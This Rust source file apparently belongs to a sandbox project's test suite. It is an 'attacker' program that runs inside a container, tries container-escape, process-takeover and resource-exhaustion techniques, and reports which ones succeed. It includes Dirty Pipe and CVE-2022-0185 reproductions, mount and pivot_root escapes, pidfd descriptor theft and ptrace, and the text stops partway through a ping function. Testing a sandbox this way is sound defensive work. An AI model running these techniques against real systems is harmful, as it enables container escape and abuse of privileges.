//! Attacks of a hostile container that no shell can make: the mount API of
//! descriptors, other processes by pidfd, races. Tests bind this program into a
//! container and read its output: a line for each attack that succeeded, then
//! `done`.
//!
//! After `--control` it prints the attacks that fail instead, each tried by a
//! process of its own in a mount namespace of its own. Tests run that in a
//! place without the protection: an attack that fails there as well would prove
//! nothing.

use std::fs::{self, File};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::num::NonZeroU32;
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use nix::mqueue::{MQ_OFlag, MqAttr, MqdT, mq_open, mq_unlink};
use nix::sched::{CloneFlags, setns, unshare};
use nix::sys::fanotify::{EventFFlags, Fanotify, InitFlags};
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use nix::sys::signal::{SigEvent, SigevNotify};
use nix::sys::timer::Timer;
use nix::time::ClockId;
use rustix::event::{PollFd, PollFlags, Timespec};
use rustix::fs::inotify;
use rustix::fs::{
    AtFlags, CWD, Mode, OFlags, RenameFlags, mkdirat, open, openat, renameat_with, unlinkat,
};
use rustix::mount::{
    FsPickFlags, MountAttrFlags, MoveMountFlags, UnmountFlags, fsconfig_reconfigure,
    fsconfig_set_flag, fspick, move_mount, unmount,
};
use rustix::net::{
    AddressFamily, Protocol, RecvFlags, SendAncillaryBuffer, SendAncillaryMessage, SendFlags,
    SocketFlags, SocketType, recv, sendmsg, sendto, socket_with, socketpair,
};
use rustix::process::{Pid, PidfdFlags, PidfdGetfdFlags, pidfd_getfd, pidfd_open};
use rustix::pty::{OpenptFlags, openpt};
use rustix::thread::{CapabilitySet, capabilities, set_capabilities};
use sandbox_core::sys::mount::{
    AttrChange, Depth, FsContext, attach_at, clone_mount, mount_setattr,
};
use sandbox_core::sys::process::{Scheduler, set_scheduler};

const READ_ONLY: MountAttrFlags = MountAttrFlags::MOUNT_ATTR_RDONLY;
const NO_EXEC: MountAttrFlags = MountAttrFlags::MOUNT_ATTR_NOEXEC;
const FLAGS: [MountAttrFlags; 4] =
    [READ_ONLY, MountAttrFlags::MOUNT_ATTR_NOSUID, MountAttrFlags::MOUNT_ATTR_NODEV, NO_EXEC];

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args[..] {
        ["mounts"] => mounts_everywhere(),
        ["newborns", name, executable] => newborns(name, executable),
        ["executable"] => executable(),
        ["below"] => below_root(),
        ["exchange", ref pairs @ ..] => exchange_for_ever(pairs),
        ["pipe", ref files @ ..] => files.iter().for_each(|file| write_by_pipe(file)),
        ["context"] => open_context(),
        ["raw", ref kinds @ ..] => kinds.iter().for_each(|kind| make_raw(kind)),
        ["raw-without-capability", ref kinds @ ..] => {
            give_up_net_raw();
            kinds.iter().for_each(|kind| make_raw(kind));
        }
        ["raw-idle", others] => make_raw_beside(others.parse().expect("a number")),
        ["ping", host] => ping(host.parse().expect("an address")),
        ["hold-closes"] => hold_closes(),
        ["exhaust", kind, most] => exhaust(kind, most.parse().expect("a number")),
        ["--control", ref list @ ..] => print_failing(list),
        ["--one", number, ref list @ ..] => try_one(list, number.parse().expect("a number")),
        ref list => print_succeeding(&attacks(list), ""),
    }
    println!("done");
}

/// An attempt, with a description of its success.
struct Attack {
    name: String,
    succeeds: Box<dyn Fn() -> bool>,
}

impl Attack {
    fn new(name: impl Into<String>, succeeds: impl Fn() -> bool + 'static) -> Attack {
        Attack { name: name.into(), succeeds: Box::new(succeeds) }
    }
}

/// Returns the attacks that the arguments name.
fn attacks(list: &[&str]) -> Vec<Attack> {
    match list {
        ["mounts"] => on_mounts(),
        ["process", pid] => on_process(pid.parse().expect("a PID")),
        ["change", file] => on_executable(file),
        _ => {
            panic!(
                "attacker: mounts, process PID, newborns NAME EXECUTABLE, executable, below, exhaust KIND MOST, \
                 exchange A B..., pipe FILE..., hold-closes, context or change FILE"
            )
        }
    }
}

fn print_succeeding(attacks: &[Attack], place: &str) {
    for attack in attacks.iter().filter(|attack| (attack.succeeds)()) {
        println!("{place}{}", attack.name);
    }
}

fn print_failing(list: &[&str]) {
    for (number, attack) in attacks(list).iter().enumerate() {
        let mut one = Command::new("/proc/self/exe");
        let tried = one.args(["--one", &number.to_string()]).args(list).status();
        if !tried.expect("run this program again").success() {
            println!("{}", attack.name);
        }
    }
}

/// Exits with 0 if the attack of this number succeeds.
fn try_one(list: &[&str], number: usize) -> ! {
    unshare(CloneFlags::CLONE_NEWNS).expect("a mount namespace of its own");
    let attack = attacks(list).swap_remove(number);
    std::process::exit(i32::from(!(attack.succeeds)()));
}

fn path(path: &str) -> Option<OwnedFd> {
    open(path, OFlags::PATH | OFlags::NOFOLLOW | OFlags::CLOEXEC, Mode::empty()).ok()
}

/// Attacks mounts in the container's own namespaces, and then in new ones,
/// where no attack may succeed that fails outside.
fn mounts_everywhere() {
    print_succeeding(&on_mounts(), "");
    let both = CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS;
    for (more, place) in [
        (CloneFlags::CLONE_NEWNS, "in a mount namespace of its own: "),
        (CloneFlags::CLONE_NEWCGROUP, "in a cgroup namespace of its own: "),
        (CloneFlags::CLONE_NEWNET, "in a network namespace of its own: "),
        (both, "in a user namespace of its own: "),
        (CloneFlags::CLONE_NEWCGROUP, "in a cgroup namespace of that: "),
        (CloneFlags::CLONE_NEWNET, "in a network namespace of that: "),
    ] {
        match unshare(more) {
            Ok(()) => print_succeeding(&on_mounts(), place),
            Err(e) => println!("{place}{e}"),
        }
    }
}

/// Uses up a limit that the kernel has for each user, but no more than `most` of it. Prints
/// how much it got, and keeps that until it is killed if it wanted everything.
fn exhaust(kind: &str, most: usize) {
    let (_, hard) = getrlimit(Resource::RLIMIT_NOFILE).expect("read a limit");
    setrlimit(Resource::RLIMIT_NOFILE, hard, hard).expect("raise a limit");
    let (mut instances, mut timers, mut queues) = (Vec::new(), Vec::new(), Vec::new());
    let (mut groups, mut terminals) = (Vec::new(), Vec::new());
    match kind {
        "inotify" => {
            let all = std::iter::from_fn(|| inotify::init(inotify::CreateFlags::empty()).ok());
            instances.extend(all.take(most));
        }
        "signals" => timers.extend(std::iter::from_fn(timer).take(most)),
        "queues" => queues.extend((0..most).map_while(queue)),
        "fanotify" => groups.extend(std::iter::from_fn(group).take(most)),
        "terminals" => terminals.extend(std::iter::from_fn(terminal).take(most)),
        _ => panic!("attacker: exhaust inotify, signals, queues, fanotify or terminals"),
    }
    let others = groups.len() + terminals.len();
    println!("{}", instances.len() + timers.len() + queues.len() + others);
    if most == usize::MAX {
        println!("held");
        std::io::stdout().flush().expect("print");
        loop {
            rustix::event::pause();
        }
    }
}

/// Makes a message queue of 80 KiB: mq_open(3). It is removed at once, and lives as long as the
/// descriptor.
fn queue(number: usize) -> Option<MqdT> {
    let name = format!("/queue-{}-{number}", std::process::id());
    let flags = MQ_OFlag::O_CREAT | MQ_OFlag::O_EXCL | MQ_OFlag::O_RDWR;
    let room = MqAttr::new(0, 10, 8192, 0);
    let made = mq_open(name.as_str(), flags, nix::sys::stat::Mode::S_IRWXU, Some(&room)).ok()?;
    mq_unlink(name.as_str()).expect("remove it");
    Some(made)
}

/// Makes a fanotify group as any user may: `FAN_REPORT_FID`.
fn group() -> Option<Fanotify> {
    Fanotify::init(InitFlags::from_bits_retain(0x200), EventFFlags::O_RDONLY).ok()
}

/// Makes a pseudo terminal: pty(7).
fn terminal() -> Option<OwnedFd> {
    openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY | OpenptFlags::CLOEXEC).ok()
}

/// Holds up the kernel's one queue of late closes, for as long as this process lives: what the
/// collector of sockets closes goes through that queue, and the close of a TCP socket that
/// lingers over data that nobody receives waits there. Prints `held` once a pipe's end that is
/// collected after it stays open.
fn hold_closes() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listen");
    let mut held = Vec::new();
    loop {
        let address = listener.local_addr().expect("an address");
        let mut socket = std::net::TcpStream::connect(address).expect("connect");
        // Accepted, so that the other end lives; nobody reads it.
        held.push(listener.accept().expect("accept"));
        socket.set_nonblocking(true).expect("fcntl");
        while socket.write(&[0; 1 << 16]).is_ok() {}
        let linger = Some(std::time::Duration::from_secs(1000));
        rustix::net::sockopt::set_socket_linger(&socket, linger).expect("SO_LINGER");
        collect(socket.into());
        let (reader, writer) = rustix::pipe::pipe().expect("pipe");
        collect(writer);
        let mut end = [PollFd::new(&reader, PollFlags::IN)];
        let time = Timespec { tv_sec: 1, tv_nsec: 0 };
        if rustix::event::poll(&mut end, Some(&time)).expect("poll") == 0 {
            break;
        }
    }
    println!("held");
    std::io::stdout().flush().expect("print");
    loop {
        rustix::event::pause();
    }
}

/// Leaves a descriptor to the kernel's collector: in the queue of a socket that only that
/// queue holds.
fn collect(descriptor: OwnedFd) {
    let (sender, queue) =
        socketpair(AddressFamily::UNIX, SocketType::DGRAM, SocketFlags::CLOEXEC, None)
            .expect("socketpair");
    let both = [descriptor.as_fd(), queue.as_fd()];
    let mut space = [std::mem::MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(2))];
    let mut ancillary = SendAncillaryBuffer::new(&mut space);
    ancillary.push(SendAncillaryMessage::ScmRights(&both));
    sendmsg(&sender, &[std::io::IoSlice::new(b"-")], &mut ancillary, SendFlags::empty())
        .expect("sendmsg");
    drop(descriptor);
}

/// Makes a timer, which holds a queued signal in reserve: timer_create(2).
fn timer() -> Option<Timer> {
    let event = SigEvent::new(SigevNotify::SigevNone);
    Timer::new(ClockId::CLOCK_MONOTONIC, event).ok()
}

/// Exchanges files that are named in pairs, as fast as it can, until it is killed.
fn exchange_for_ever(pairs: &[&str]) {
    println!("exchanging");
    std::io::stdout().flush().expect("print");
    loop {
        for pair in pairs.chunks_exact(2) {
            let exchanged = renameat_with(CWD, pair[0], CWD, pair[1], RenameFlags::EXCHANGE);
            exchanged.unwrap_or_else(|e| panic!("exchange {pair:?}: {e}"));
        }
    }
}

/// Writes to a file that it may only read, as CVE-2022-0847 did: a page of the file in a pipe
/// whose buffers were marked as ones to append to. Prints that the page was there, and whether
/// the file has changed.
fn write_by_pipe(file: &str) {
    let before = fs::read(file).unwrap_or_else(|e| panic!("read {file}: {e}"));
    let (reader, writer) = rustix::pipe::pipe().expect("make a pipe");
    let size = rustix::pipe::fcntl_getpipe_size(&writer).expect("its size");
    let mut page = vec![0; 4096];
    for _ in 0..size / page.len() {
        rustix::io::write(&writer, &page).expect("fill the pipe");
    }
    for _ in 0..size / page.len() {
        rustix::io::read(&reader, &mut page).expect("drain the pipe");
    }
    let source = File::open(file).expect("open it for reading");
    let flags = rustix::pipe::SpliceFlags::empty();
    let moved = rustix::pipe::splice(&source, None, &writer, None, 1, flags).expect("splice");
    rustix::io::write(&writer, b"dirty").expect("write behind it");
    let got = rustix::io::read(&reader, &mut page).expect("read the first buffer");
    println!("spliced {moved} of {file}: {}", got > 0 && page[0] == before[0]);
    if fs::read(file).expect("read it again") != before {
        println!("changed {file}");
    }
}

/// Comes to the code in which CVE-2022-0185 was: a new file system's options, which take
/// CAP_SYS_ADMIN in any user namespace. Prints how far it came.
fn open_context() {
    if unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS).is_err() {
        return;
    }
    println!("root of a user namespace");
    let Ok(context) = FsContext::open("tmpfs") else { return };
    println!("opened a context");
    // Many options that are not known to the file system, whose lengths were added up.
    let accepted = (0..64).filter(|_| context.string("\u{1}", "A".repeat(255)).is_ok()).count();
    println!("{accepted} unknown options were kept");
}

/// Tries to come to what lies below the root in this mount namespace: the sandbox's own.
/// Each road is tried by a process that root has to itself. A road that does not even lead
/// out of a directory that it was locked in would prove nothing, and is printed as well.
fn below_root() {
    let roads = [
        ("climb", climb as fn() -> bool),
        ("enter the namespace again", enter_again),
        ("exchange the root", exchange),
    ];
    for (name, walk) in roads {
        match nix::sys::wait::waitpid(forked(walk), None).expect("wait for a child") {
            nix::sys::wait::WaitStatus::Exited(_, 0) => {}
            other => println!("{name}: {other:?}"),
        }
    }
    if unmount("/", UnmountFlags::DETACH).is_ok() {
        println!("unmount the root");
    }
}

/// Runs `walk` in a child, which exits with 0 if that returns whether the container's root
/// is still the top.
fn forked(walk: fn() -> bool) -> nix::unistd::Pid {
    // SAFETY: this program has one thread.
    match unsafe { nix::unistd::fork() }.expect("fork") {
        nix::unistd::ForkResult::Parent { child } => child,
        nix::unistd::ForkResult::Child => std::process::exit(i32::from(!walk())),
    }
}

fn is_here() -> bool {
    Path::new("attacker").exists()
}

/// Leaves a root directory as chroot(2) describes, and goes on from there.
fn climb() -> bool {
    let outside = path("/").expect("open the root");
    rustix::process::chroot("/proc").expect("chroot into a directory");
    rustix::process::fchdir(&outside).expect("leave it");
    for _ in 0..20 {
        rustix::process::chdir("..").expect("climb");
    }
    rustix::process::chroot(".").expect("make this the root");
    is_here()
}

/// Enters its own mount namespace again, which leads to the namespace's root: setns(2).
fn enter_again() -> bool {
    let own = File::open("/proc/self/ns/mnt").expect("open its mount namespace");
    rustix::process::chroot("/proc").expect("chroot into a directory");
    setns(own, CloneFlags::CLONE_NEWNS).expect("enter the mount namespace");
    is_here()
}

/// Puts another root into the place of the container's, and takes that away too.
fn exchange() -> bool {
    unshare(CloneFlags::CLONE_NEWNS).expect("a mount namespace of its own");
    let other = clone_mount(CWD, "/", Depth::Tree).expect("clone the root");
    attach_at(&other, "/proc").expect("attach the clone");
    rustix::process::chdir("/proc").expect("enter the clone");
    rustix::process::pivot_root(".", ".").expect("pivot_root");
    unmount(".", UnmountFlags::DETACH).expect("unmount the old root");
    let locked = unmount("/", UnmountFlags::DETACH).is_err();
    let own = File::open("/proc/self/ns/mnt").expect("open its mount namespace");
    setns(own, CloneFlags::CLONE_NEWNS).expect("enter the mount namespace");
    locked && is_here()
}

/// Lists the attacks on the mounts that the test has masked, protected and
/// bound. Each mount is locked if a user namespace lies below the one that made
/// it.
fn on_mounts() -> Vec<Attack> {
    let mut all = Vec::new();
    for at in ["/", "/volume", "/proc", "/proc/sys", "/proc/kcore", "/sys", "/sys/firmware"] {
        if path(at).is_some() {
            all.extend(on_flags(at));
            all.extend((at != "/").then(|| on_place(at)).into_iter().flatten());
        }
    }
    all.extend(on_what_is_hidden());
    all.extend(new_file_systems());
    all.extend(new_cgroup_mounts());
    all.extend(on_super_blocks());
    all
}

fn on_flags(at: &'static str) -> Vec<Attack> {
    let wanted = match at {
        "/volume" => &FLAGS[..],
        // Not read-only: the null device hides a file.
        "/proc" | "/proc/kcore" => &[],
        _ => &FLAGS[..1],
    };
    let of_flag = |clear: MountAttrFlags| {
        let change = AttrChange { clear, ..AttrChange::default() };
        let clear_at = move || {
            path(at).is_some_and(|target| mount_setattr(target, Depth::Top, change).is_ok())
        };
        let of_clone = [Depth::Top, Depth::Tree].map(|depth| {
            let clear_clone = move || {
                path(at)
                    .and_then(|target| clone_mount(target, "", depth).ok())
                    .is_some_and(|clone| mount_setattr(clone, Depth::Top, change).is_ok())
            };
            Attack::new(format!("cleared {clear:?} of a clone of {at} ({depth:?})"), clear_clone)
        });
        std::iter::once(Attack::new(format!("cleared {clear:?} of {at}"), clear_at)).chain(of_clone)
    };
    wanted.iter().copied().flat_map(of_flag).collect()
}

/// Detaches a mount, moves it away, and puts another beneath it.
fn on_place(at: &'static str) -> Vec<Attack> {
    let mut all = vec![
        Attack::new(format!("detached {at}"), move || unmount(at, UnmountFlags::DETACH).is_ok()),
        Attack::new(format!("moved {at} away"), move || {
            let flags = MoveMountFlags::MOVE_MOUNT_F_EMPTY_PATH;
            path(at).is_some_and(|target| move_mount(target, c"", CWD, c"/tmp", flags).is_ok())
        }),
        Attack::new(format!("slipped a mount beneath {at} and uncovered it"), move || {
            let flags =
                MoveMountFlags::MOVE_MOUNT_F_EMPTY_PATH | MoveMountFlags::MOVE_MOUNT_BENEATH;
            fresh("tmpfs").is_ok_and(|new| move_mount(&new, c"", CWD, at, flags).is_ok())
                && unmount(at, UnmountFlags::DETACH).is_ok()
        }),
    ];
    // The others have mounts below them, and are busy.
    if !["/proc", "/proc/sys", "/sys"].contains(&at) {
        let unmounted = move || unmount(at, UnmountFlags::empty()).is_ok();
        all.push(Attack::new(format!("unmounted {at}"), unmounted));
    }
    all
}

/// Lists the attacks on paths that a mount hides: by a clone without the mounts
/// below, and by a clone with them, from which the mount is removed.
fn on_what_is_hidden() -> Vec<Attack> {
    let places = [("/proc", "kcore"), ("/proc", "sys"), ("/sys", "firmware"), ("/", "proc/sys")];
    let hidden = places.into_iter().filter(|(at, hidden)| Path::new(at).join(hidden).exists());
    hidden
        .flat_map(|(at, hidden)| {
            let clone = move |depth| path(at).and_then(|at| clone_mount(at, "", depth).ok());
            let without = move || clone(Depth::Top).is_some();
            let taken_off = move || {
                let below = format!("/tmp/{hidden}");
                let attached = clone(Depth::Tree).is_some_and(|t| attach_at(t, "/tmp").is_ok());
                let off = attached && unmount(below.as_str(), UnmountFlags::DETACH).is_ok();
                if attached {
                    let _ = unmount("/tmp", UnmountFlags::DETACH);
                }
                off
            };
            [
                Attack::new(format!("cloned {at} without {hidden}"), without),
                Attack::new(format!("uncovered {hidden} of a clone of {at}"), taken_off),
            ]
        })
        .collect()
}

/// Lists the attempts to mount file systems that show the host, as far as the
/// kernel has them.
fn new_file_systems() -> Vec<Attack> {
    let known = fs::read_to_string("/proc/filesystems").expect("read /proc/filesystems");
    ["proc", "sysfs", "debugfs", "securityfs", "tracefs", "devtmpfs"]
        .into_iter()
        .filter(|name| known.lines().any(|line| line.trim_start_matches("nodev").trim() == *name))
        .map(|name| Attack::new(format!("mounted {name}"), move || fresh(name).is_ok()))
        .collect()
}

/// Lists the attempts to mount the control group hierarchies of this kernel.
fn new_cgroup_mounts() -> Vec<Attack> {
    let controllers = fs::read_to_string("/proc/cgroups").unwrap_or_default();
    let is_version_1 = |name: &str| {
        controllers.lines().any(|line| {
            let fields: Vec<&str> = line.split_whitespace().collect();
            fields[0] == name && fields[1] != "0"
        })
    };
    let mut all = Vec::new();
    let version_1 = ["memory", "pids", "devices", "freezer"].map(|name| ("cgroup", Some(name)));
    for (name, option) in [("cgroup2", None)].into_iter().chain(version_1) {
        if !option.is_none_or(is_version_1) {
            continue;
        }
        all.push(Attack::new(format!("made a cgroup with {name} {option:?}"), move || {
            fresh_with(name, option).is_ok_and(|mount| {
                mkdirat(&mount, "below", Mode::from_raw_mode(0o755))
                    .and_then(|()| unlinkat(&mount, "below", AtFlags::REMOVEDIR))
                    .is_ok()
            })
        }));
        all.push(Attack::new(format!("opened cgroup.procs of {name} {option:?}"), move || {
            let flags = OFlags::WRONLY | OFlags::CLOEXEC;
            fresh_with(name, option)
                .is_ok_and(|mount| openat(&mount, "cgroup.procs", flags, Mode::empty()).is_ok())
        }));
    }
    all
}

fn on_super_blocks() -> Vec<Attack> {
    let of = |at: &'static str| {
        Attack::new(format!("reconfigured {at}"), move || {
            let reconfigure = |context: OwnedFd| {
                let _ = fsconfig_set_flag(&context, "rw");
                fsconfig_reconfigure(&context).is_ok()
            };
            fspick(CWD, at, FsPickFlags::FSPICK_CLOEXEC).is_ok_and(reconfigure)
        })
    };
    ["/proc", "/sys", "/", "/volume", "/sys/fs/cgroup"]
        .into_iter()
        .filter(|at| Path::new(at).exists())
        .map(of)
        .collect()
}

fn fresh(name: &str) -> Result<OwnedFd, String> {
    fresh_with(name, None)
}

fn fresh_with(name: &str, option: Option<&str>) -> Result<OwnedFd, String> {
    let make = || {
        let context = FsContext::open(name)?;
        option.map_or(Ok(()), |option| context.flag(option))?;
        context.create()?;
        context.mount(MountAttrFlags::empty())
    };
    make().map_err(|e: sandbox_core::sys::mount::FsError| e.to_string())
}

/// Lists the attacks on a process that is not the container's: boot, or a copy
/// of it.
fn on_process(pid: i32) -> Vec<Attack> {
    let mut all = vec![Attack::new("traced it", move || trace(pid))];
    all.push(Attack::new("took a descriptor", move || takes_descriptor(pid, 0..32)));
    for name in [
        "maps",
        "smaps",
        "pagemap",
        "environ",
        "auxv",
        "io",
        "syscall",
        "stack",
        "exe",
        "personality",
        "fd/0",
        "fdinfo/0",
    ] {
        let file = format!("/proc/{pid}/{name}");
        // Every process may open some of them, but not read them.
        all.push(Attack::new(format!("read {file}"), move || {
            File::open(&file).is_ok_and(|mut file| file.read(&mut [0; 8]).is_ok())
        }));
    }
    for name in ["mem", "ns/user", "ns/mnt", "ns/pid"] {
        let file = format!("/proc/{pid}/{name}");
        all.push(Attack::new(format!("opened {file}"), move || File::open(&file).is_ok()));
    }
    for name in ["fd/3", "exe", "ns/net"] {
        let file = format!("/proc/{pid}/{name}");
        all.push(Attack::new(format!("followed {file}"), move || fs::read_link(&file).is_ok()));
    }
    for name in ["root/", "cwd/", "map_files/"] {
        let file = format!("/proc/{pid}/{name}");
        all.push(Attack::new(format!("listed {file}"), move || {
            fs::read_dir(&file).is_ok_and(|mut entries| entries.next().is_some_and(|e| e.is_ok()))
        }));
    }
    for (name, text) in [("mem", ""), ("timerslack_ns", "0")] {
        let file = format!("/proc/{pid}/{name}");
        all.push(Attack::new(format!("wrote {file}"), move || writes(&file, text)));
    }
    for flags in [
        CloneFlags::CLONE_NEWUSER,
        CloneFlags::CLONE_NEWNS,
        CloneFlags::CLONE_NEWPID,
        CloneFlags::CLONE_NEWNET,
        CloneFlags::CLONE_NEWCGROUP,
        CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS,
    ] {
        all.push(Attack::new(format!("entered its {flags:?}"), move || enters(pid, flags)));
    }
    all
}

fn trace(pid: i32) -> bool {
    use nix::sys::ptrace::{Options, detach, interrupt, seize};
    use nix::sys::wait::{WaitPidFlag, waitpid};
    let pid = nix::unistd::Pid::from_raw(pid);
    let traced = seize(pid, Options::empty()).is_ok();
    if traced {
        // Its parent could not collect it before its tracer has let it go.
        let _ = interrupt(pid);
        let _ = waitpid(pid, Some(WaitPidFlag::__WALL));
        let _ = detach(pid, None);
    }
    traced
}

fn pidfd(pid: i32) -> Option<OwnedFd> {
    pidfd_open(Pid::from_raw(pid).expect("a PID"), PidfdFlags::empty()).ok()
}

fn takes_descriptor(pid: i32, numbers: impl IntoIterator<Item = i32>) -> bool {
    let Some(pidfd) = pidfd(pid) else { return false };
    let taken = |number| pidfd_getfd(&pidfd, number, PidfdGetfdFlags::empty()).is_ok();
    numbers.into_iter().any(taken)
}

/// Whether a file can be opened for writing and takes this text.
fn writes(file: &str, text: &str) -> bool {
    let opened = File::options().write(true).open(file);
    opened.is_ok_and(|mut file| text.is_empty() || file.write(text.as_bytes()).is_ok())
}

fn enters(pid: i32, flags: CloneFlags) -> bool {
    pidfd(pid).is_some_and(|pidfd| setns(pidfd, flags).is_ok())
}

/// Attacks every process except boot and itself, as soon as each appears, until
/// it is killed. Reports what it got of those that had this name even afterwards, and no
/// other executable than this one: execve gives a process another executable, which opens it
/// to the pod, and another name somewhat later.
fn newborns(name: &str, executable: &str) {
    println!("waiting");
    let own = std::process::id().cast_signed();
    loop {
        let entries = fs::read_dir("/proc").expect("read /proc").flatten();
        let pids = entries.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok());
        for pid in pids.filter(|pid| ![1, own].contains(pid)) {
            get_at(pid, name, executable);
        }
    }
}

/// Tries the shortest ways to the resources of a process. Those that change
/// this process come last.
fn get_at(pid: i32, name: &str, executable: &str) {
    let named = || {
        let read = fs::read_to_string(format!("/proc/{pid}/comm"));
        read.is_ok_and(|read| read.trim_end() == name)
    };
    if !named() {
        return;
    }
    // Nobody may read the link of a process that is out of reach.
    let executes = || {
        let read = fs::read_link(format!("/proc/{pid}/exe"));
        read.map_or(true, |read| read == Path::new(executable))
    };
    let report = |succeeded: bool, what: &str| {
        if succeeded && named() && executes() {
            println!("{what} of {pid}");
        }
    };
    // What is no stream belongs to boot, whatever the process executes by now.
    for number in 3..64 {
        let nonblocking = OFlags::RDONLY | OFlags::NONBLOCK;
        let file = format!("/proc/{pid}/fd/{number}");
        if let Ok(opened) = open(&file, nonblocking, Mode::empty()) {
            let what = fs::read_link(own_link(&opened)).expect("read its own link");
            if named() {
                println!("opened descriptor {number}, {}, of {pid}", what.display());
            }
        }
    }
    for file in ["mem", "environ", "fd/0", "ns/mnt", "exe", "root/", "cwd/"] {
        report(File::open(format!("/proc/{pid}/{file}")).is_ok(), &format!("opened {file}"));
    }
    for (file, text) in [("mem", ""), ("setgroups", "deny"), ("uid_map", "0 0 1")] {
        report(writes(&format!("/proc/{pid}/{file}"), text), &format!("wrote {file}"));
    }
    report(trace(pid), "traced the start");
    report(takes_descriptor(pid, [0, 3, 5, 8]), "took a descriptor");
    for flags in [CloneFlags::CLONE_NEWNS, CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS] {
        report(enters(pid, flags), &format!("entered {flags:?}"));
    }
}

/// Waits for a process that runs the runtime's executable, which has no path,
/// and tries to change it.
fn executable() {
    println!("waiting");
    let runtime = loop {
        let found = fs::read_dir("/proc").expect("read /proc").flatten().find_map(|entry| {
            let link = entry.path().join("exe");
            let detached = |link: &Path| fs::read_link(link).is_ok_and(|to| to.as_os_str() == "/");
            let looks_so = entry.file_name().to_string_lossy().parse::<u32>().is_ok();
            (looks_so && detached(&link))
                .then(|| open(&link, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).ok())?
        });
        if let Some(found) = found
            && fs::read_link(own_link(&found)).is_ok_and(|to| to.as_os_str() == "/")
        {
            break found;
        }
    };
    println!("caught");
    let attacks = on_executable(&own_link(&runtime));
    print_succeeding(&attacks, "");
    let own = unshare(CloneFlags::CLONE_NEWUSER | CloneFlags::CLONE_NEWNS);
    println!("unshared: {}", own.is_ok());
    print_succeeding(&attacks, "in a user namespace of its own: ");
}

fn own_link(file: &OwnedFd) -> String {
    format!("/proc/self/fd/{}", file.as_raw_fd())
}

/// Lists the attacks on an executable that is a mount of its own.
fn on_executable(file: &str) -> Vec<Attack> {
    let file = file.to_owned();
    let open = move || open(&file, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).ok();
    let attack = |name: &str, succeeds: fn(&OwnedFd) -> bool| {
        let open = open.clone();
        Attack::new(name, move || open().is_some_and(|file| succeeds(&file)))
    };
    vec![
        attack("made the mount writable", |file| change(file, MountAttrFlags::empty(), READ_ONLY)),
        attack("made the mount noexec", |file| change(file, NO_EXEC, MountAttrFlags::empty())),
        attack("cloned the mount", |file| clone_mount(file, "", Depth::Top).is_ok()),
        attack("changed its mode", |file| {
            fs::set_permissions(own_link(file), fs::Permissions::from_mode(0o755)).is_ok()
        }),
        attack("opened it for writing", |file| writes(&own_link(file), "")),
    ]
}

fn change(file: &OwnedFd, set: MountAttrFlags, clear: MountAttrFlags) -> bool {
    let change = AttrChange { set, clear, ..AttrChange::default() };
    mount_setattr(file.as_fd(), Depth::Top, change).is_ok()
}

/// Makes a raw socket, and prints whether that succeeded.
fn make_raw(kind: &str) {
    match raw_socket(kind) {
        Ok(socket) => {
            let flags = rustix::io::fcntl_getfd(&socket).expect("its flags");
            assert_eq!(flags.contains(rustix::io::FdFlags::CLOEXEC), kind != "icmp");
            let flags = rustix::fs::fcntl_getfl(&socket).expect("its flags");
            assert_eq!(flags.contains(OFlags::NONBLOCK), kind == "packets");
            println!("{kind}: opened");
        }
        Err(error) => println!("{kind}: {:?}", nix::errno::Errno::from_raw(error.raw_os_error())),
    }
}

fn raw_socket(kind: &str) -> rustix::io::Result<OwnedFd> {
    let (family, raw, protocol) = match kind {
        "packet" => (AddressFamily::PACKET, SocketType::RAW, EVERY_PROTOCOL),
        "packets" => (AddressFamily::PACKET, SocketType::DGRAM, EVERY_PROTOCOL),
        "icmp" => (AddressFamily::INET, SocketType::RAW, 1),
        "icmp6" => (AddressFamily::INET6, SocketType::RAW, 58),
        "nothing" => (AddressFamily::INET, SocketType::RAW, 0),
        other => panic!("{other} is no kind of raw socket"),
    };
    let mut flags = SocketFlags::empty();
    flags.set(SocketFlags::CLOEXEC, kind != "icmp");
    flags.set(SocketFlags::NONBLOCK, kind == "packets");
    let protocol = NonZeroU32::new(protocol).map(Protocol::from_raw);
    socket_with(family, raw, flags, protocol)
}

/// `htons(ETH_P_ALL)`
const EVERY_PROTOCOL: u32 = 3_u16.to_be() as u32;

/// Drops CAP_NET_RAW from the effective set alone.
fn give_up_net_raw() {
    let mut sets = capabilities(None).expect("the capabilities");
    sets.effective.remove(CapabilitySet::NET_RAW);
    set_capabilities(None, sets).expect("fewer capabilities");
}

/// Makes raw sockets without end in threads of the lowest priority, which seldom run once there
/// are others that always do.
fn make_raw_beside(others: usize) {
    /// `SCHED_IDLE`
    const IDLE: u32 = 5;
    let idle = Scheduler {
        policy: IDLE,
        flags: 0,
        nice: 0,
        priority: 0,
        runtime: 0,
        deadline: 0,
        period: 0,
    };
    let made = Arc::new(AtomicUsize::new(0));
    for _ in 0..16 {
        let made = made.clone();
        std::thread::spawn(move || {
            set_scheduler(&idle).expect("a lower priority");
            loop {
                drop(raw_socket("packet"));
                made.fetch_add(1, Ordering::Relaxed);
            }
        });
    }
    // All wait for the next one.
    while made.load(Ordering::Relaxed) < 40 {
        std::thread::yield_now();
    }
    for _ in 0..others {
        std::thread::spawn(|| {
            loop {
                std::hint::spin_loop();
            }
        });
    }
    loop {
        std::thread::park();
    }
}

/// Sends an echo request by a raw socket, and waits for the reply.
fn ping(host: Ipv4Addr) {
    let socket = raw_socket("icmp").expect("a raw socket");
    // Type 8, code 0, the checksum, an identifier, a number.
    let request = [8, 0, 0x22, 0x78, 0xd5, 0x87, 0, 0];
    let to = SocketAddrV4::new(host, 0);
